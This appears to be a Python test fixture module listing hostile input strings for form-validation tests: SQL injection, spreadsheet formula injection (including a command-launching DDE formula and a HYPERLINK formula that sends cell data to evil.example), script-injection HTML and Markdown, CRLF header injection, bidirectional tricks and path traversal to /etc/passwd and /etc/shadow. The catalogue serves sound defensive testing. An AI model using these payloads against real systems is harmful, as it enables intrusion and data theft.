"""The shared catalogue of hostile strings (issue 7): what an attacker, a broken spreadsheet or a
careless paste puts into a form. Each entry has a short id (the test's parameter id) and the text.

Groups: SQL injection, formula (CSV) injection, HTML and script, Markdown, control characters,
bidirectional and zero-width characters, very long strings, emoji and astral-plane characters,
full-width and other non-ASCII digits, lone surrogates, path names.
"""

from __future__ import annotations

from collections.abc import Iterable

LONG = "长" * 10_000
LONG_ASCII = "A" * 10_000

SQL: dict[str, str] = {
    "sql-or": "' OR 1=1 --",
    "sql-drop": "'; DROP TABLE child; --",
    "sql-dquote": '" OR ""="',
    "sql-union": "' UNION SELECT password_hash FROM user_account --",
    "sql-comment": "admin'/*",
    "sql-sleep": "1'; SELECT pg_sleep(5); --",
}
FORMULA: dict[str, str] = {
    "formula-cmd": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1)",
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "formula-tab": "\t=1+1",
}
HTML: dict[str, str] = {
    "html-script": "<script>alert(1)</script>",
    "html-img": "<img src=x onerror=alert(1)>",
    "html-svg": '"><svg/onload=alert(1)>',
    "html-iframe": "<iframe src=javascript:alert(1)>",
    "html-entity": "&lt;b&gt;粗&lt;/b&gt; &amp;",
}
MARKDOWN: dict[str, str] = {
    "md-bold": "**粗体** _斜体_",
    "md-link": "[点我](javascript:alert(1))",
    "md-image": "![x](http://evil.example/x.png)",
    "md-heading": "# 大标题",
    "md-latex": "$\\frac{1}{0}$",
    "md-colour": ":red[红字] :material/warning:",
}
CONTROL: dict[str, str] = {
    "ctl-nul": "王\x00芳",
    "ctl-bell": "王\x07芳",
    "ctl-ansi": "\x1b[31m王芳\x1b[0m",
    "ctl-crlf": "王芳\r\nSet-Cookie: x=1",
    "ctl-newline": "第一行\n第二行",
    "ctl-del": "王\x7f芳",
    "ctl-c1": "王\x85芳\x9b",
}
BIDI: dict[str, str] = {
    "bidi-rlm": "王\u200f芳",
    "bidi-rlo": "\u202e芳王",
    "bidi-isolate": "王\u2067芳\u2069",
    "zw-space": "王\u200b芳",
    "zw-joiner": "王\u200d芳",
    "bom": "\ufeff王芳",
}
LONG_STRINGS: dict[str, str] = {
    "long-cjk": LONG,
    "long-ascii": LONG_ASCII,
}
ASTRAL: dict[str, str] = {
    "emoji": "王芳😀👨‍👩‍👧",
    "rare-han": "𠮷野家",  # U+20BB7: a real surname character, must be kept
    "math-bold": "𝐀𝐁𝐂",
}
DIGITS: dict[str, str] = {
    "fullwidth-digits": "４１０１２２２０２２０３１５００１Ｘ",
    "arabic-indic": "٤١٠١٢٢٢٠٢٢٠٣١٥٠٠١٢",
    "superscript": "²³",
}
SURROGATE: dict[str, str] = {
    "lone-surrogate": "王\ud800芳",
}
PATHS: dict[str, str] = {
    "path-traversal": "../../etc/passwd",
    "path-windows": "..\\..\\windows\\win.ini",
    "path-nul": "evil.pdf\x00.png",
    "path-absolute": "/etc/shadow",
    "path-long": "a" * 500 + ".pdf",
    "path-empty": "",
}

GROUPS: dict[str, dict[str, str]] = {
    "sql": SQL,
    "formula": FORMULA,
    "html": HTML,
    "markdown": MARKDOWN,
    "control": CONTROL,
    "bidi": BIDI,
    "long": LONG_STRINGS,
    "astral": ASTRAL,
    "digits": DIGITS,
    "surrogate": SURROGATE,
}


def strings(*groups: str) -> list[tuple[str, str]]:
    """(id, text) of the named groups, or of every group but PATHS when none is named."""
    chosen: Iterable[str] = groups or GROUPS
    return [(key, text) for group in chosen for key, text in GROUPS[group].items()]


ALL: list[tuple[str, str]] = strings()
IDS: list[str] = [key for key, _ in ALL]
TEXTS: dict[str, str] = dict(ALL)

# One or two of each group, for the forms whose every field has been through the whole catalogue
# elsewhere (the same validation code): reasons, notes, the less used fields.
COMPACT: list[str] = [
    "sql-drop",
    "formula-cmd",
    "formula-tab",
    "html-script",
    "md-link",
    "ctl-nul",
    "ctl-crlf",
    "ctl-newline",
    "bidi-rlo",
    "zw-space",
    "long-cjk",
    "emoji",
    "rare-han",
    "fullwidth-digits",
    "lone-surrogate",
]

# A representative subset for PostgreSQL: one or two of each group, and every case that only
# PostgreSQL refuses (NUL bytes, lengths past a column's size).
PG_SUBSET: list[str] = [
    "sql-drop",
    "formula-cmd",
    "html-script",
    "md-link",
    "ctl-nul",
    "ctl-crlf",
    "bidi-rlo",
    "long-cjk",
    "emoji",
    "rare-han",
    "fullwidth-digits",
    "lone-surrogate",
]
